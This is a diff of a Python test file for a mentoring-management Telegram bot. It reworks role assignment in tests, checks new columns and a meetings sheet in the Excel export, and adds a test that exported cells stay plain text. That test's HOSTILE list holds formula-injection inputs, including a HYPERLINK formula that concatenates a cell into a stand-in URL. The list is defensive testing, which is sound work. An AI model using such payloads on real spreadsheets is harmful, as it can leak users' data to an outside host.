@@ -5,28 +5,40 @@ fit check, quiet pairs are nudged and flagged, the monthly adaptation check; and
 from __future__ import annotations
 
 import io
+import re
 from datetime import UTC, datetime
 
 import openpyxl
+from sqlalchemy import update
 
 import bot.jobs
 from bot.callbacks import MentorCD, PairCD
+from bot.domain.mentoring import MeetingFormat
+from bot.domain.roles import Role
 from bot.services import mentoring as mentoring_service
-from storage.models import MentorPair
+from bot.services import roles as role_service
+from storage.models import MentorMeeting, MentorPair, MentorProfile, Municipality, School, User
 from tests.conftest import BotEnv
 from tests.fakes import TgUser
 from tests.flows import register
-from tests.test_roles import _create_invite
 
 
 def last_answer(env: BotEnv) -> str:
     return str(env.fake.requests_for("answerCallbackQuery")[-1].params.get("text", ""))
 
 
+ROLES = {"сотрудник методической службы": Role.STAFF, "наставник": Role.MENTOR}
+
+
 async def invited(env: BotEnv, tg_id: int, role: str, name: str, **kwargs: str) -> TgUser:
-    payload = await _create_invite(env, role)
+    """A registered person given a role (staff: the regional centre) — as an invite would."""
     person = env.user(tg_id)
-    await register(person, start=f"/start {payload}", name=name, experience="15", birth_year="1979", **kwargs)
+    await register(person, name=name, experience="15", birth_year="1979", **kwargs)
+    async with env.repos() as repos:
+        user = await repos.users.by_tg_id(tg_id)
+        assert user is not None
+        await role_service.grant(repos, user, ROLES[role], actor_tg_id=None, source="test")
+        await repos.commit()
     return person
 
 
@@ -181,13 +193,29 @@ async def test_mentoring_from_request_to_reminders(env_all: BotEnv) -> None:
     assert "В зоне риска (нет встреч 30 дней): 1" in staff.last_message.text
     await staff.click("📥 Выгрузить в Excel")
     book = openpyxl.load_workbook(io.BytesIO(staff.last_message.document))
-    assert book.sheetnames == ["Сводка", "Пары", "Наставники"]
+    assert book.sheetnames == ["Сводка", "Пары", "Наставники", "Встречи"]
     summary_rows = {row[0]: row[1] for row in book["Сводка"].iter_rows(values_only=True)}
     assert summary_rows["Молодых специалистов"] == 1 and summary_rows["С наставником"] == 1
     assert summary_rows["Средняя оценка"] == 4
     pair_rows = list(book["Пары"].iter_rows(values_only=True))
-    assert pair_rows[1][:2] == ("Молодова Анна Сергеевна", "Наставникова Галина Петровна")
-    assert pair_rows[1][4] == 1 and pair_rows[1][7] == "👎 Нет" and pair_rows[1][8] == "да"
+    assert pair_rows[1][:5] == (
+        "Молодова Анна Сергеевна",
+        "г. Кострома",
+        "Гимназия № 15",
+        "Наставникова Галина Петровна",
+        "Гимназия № 15",
+    )
+    assert pair_rows[1][7] == 1 and pair_rows[1][10] == "👎 Нет" and pair_rows[1][11] == "да"
+    meeting_rows = list(book["Встречи"].iter_rows(values_only=True))
+    assert meeting_rows[1][1:7] == (
+        "Молодова Анна Сергеевна",
+        "Наставникова Галина Петровна",
+        "Посещение урока",
+        "Дисциплина на уроке в 7 классе",
+        60,
+        "подтверждена",
+    )
+    assert meeting_rows[1][7:9] == (4, "Очень полезно, спасибо!")
 
 
 async def test_an_unpaired_young_specialist_reaches_staff_once_after_a_week(env: BotEnv) -> None:
@@ -294,3 +322,86 @@ async def test_deleting_my_data_removes_my_pairs_and_meetings(env: BotEnv) -> No
     await mentor.send("/menu")
     await mentor.click("👥 Мои наставляемые")
     assert "Пока никого нет" in mentor.last_message.text
+
+
+# Text that Excel would run as a formula, or that breaks the file: each must arrive as plain text.
+HOSTILE = ('=HYPERLINK("http://x"&A2,"a")', "+1", "@SUM(A1)", "-2+3", "\tx", "\rx", "Ив\x01анова")
+CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+async def test_the_mentoring_report_file_keeps_hostile_text_as_text(env: BotEnv) -> None:
+    staff = await invited(env, 3501, "сотрудник методической службы", "Сотрудникова Елена")
+    await invited(env, 3502, "наставник", "Наставникова Галина")
+    await register(env.user(3503), name="Молодова Анна")
+    now = env.clock()
+    async with env.repos() as repos:
+        run = await mentoring_service.run_matching(repos, None, now.year)
+        pair = run.proposals[0]
+        await mentoring_service.confirm(repos, pair, now, now.date())
+        logged = await mentoring_service.log_meeting(
+            repos,
+            pair,
+            token="t" * 16,
+            held_on=now.date(),
+            meeting_format=MeetingFormat.ANALYSIS,
+            topic="Тема",
+            minutes=45,
+            note="Заметка",
+            photo_file_id=None,
+            now=now,
+        )
+        await mentoring_service.confirm_meeting(repos, logged.meeting, now)
+        await mentoring_service.rate_meeting(repos, logged.meeting, 5, "Отзыв")
+        await repos.mentoring.save_profile(pair.mentor_id, about="О себе")
+        await repos.commit()
+        mentor_id, mentee_id, meeting_id = pair.mentor_id, pair.mentee_id, logged.meeting.id
+    for value in HOSTILE:
+        async with env.repos() as repos:
+            mentee = await repos.users.by_id(mentee_id)
+            assert mentee is not None and mentee.school is not None and mentee.municipality is not None
+            session = repos.session
+            await session.execute(update(User).where(User.id == mentee_id).values(full_name=value))
+            # The mentor's school was not in the directory: what they typed is shown instead.
+            await session.execute(
+                update(User)
+                .where(User.id == mentor_id)
+                .values(full_name=value, school_id=None, school_note=value)
+            )
+            await session.execute(
+                update(School).where(School.id == mentee.school.id).values(short_name=value)
+            )
+            await session.execute(
+                update(Municipality).where(Municipality.id == mentee.municipality.id).values(name=value)
+            )
+            await session.execute(
+                update(MentorProfile).where(MentorProfile.user_id == mentor_id).values(about=value)
+            )
+            await session.execute(
+                update(MentorMeeting)
+                .where(MentorMeeting.id == meeting_id)
+                .values(topic=value, note=value, rating_comment=value)
+            )
+            await repos.commit()
+        await staff.send("/menu")
+        await staff.click("🤝 Наставники и пары")
+        await staff.click("📥 Выгрузить в Excel")
+        book = openpyxl.load_workbook(io.BytesIO(staff.last_message.document))
+        for sheet in book:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (value, sheet.title, cell.coordinate)
+                    if isinstance(cell.value, str):
+                        assert not CONTROL.search(cell.value), (value, sheet.title, cell.coordinate)
+        expected = value.replace("\x01", "")
+        places = {
+            "Пары": (0, 1, 2, 3, 4),  # mentee, municipality, schools, mentor
+            "Наставники": (0, 1, 2, 5),  # name, municipality, typed school, about
+            "Встречи": (1, 2, 4, 8, 9),  # names, topic, feedback, note
+        }
+        for title, columns in places.items():
+            cells = next(book[title].iter_rows(min_row=2, max_row=2))
+            for column in columns:
+                cell = cells[column]
+                assert cell.data_type == "s", (value, title, cell.coordinate)
+                # XML keeps no lone carriage return: a reader sees it as a line break.
+                assert cell.value in (expected, expected.replace("\r", "\n")), (value, title, cell.value)
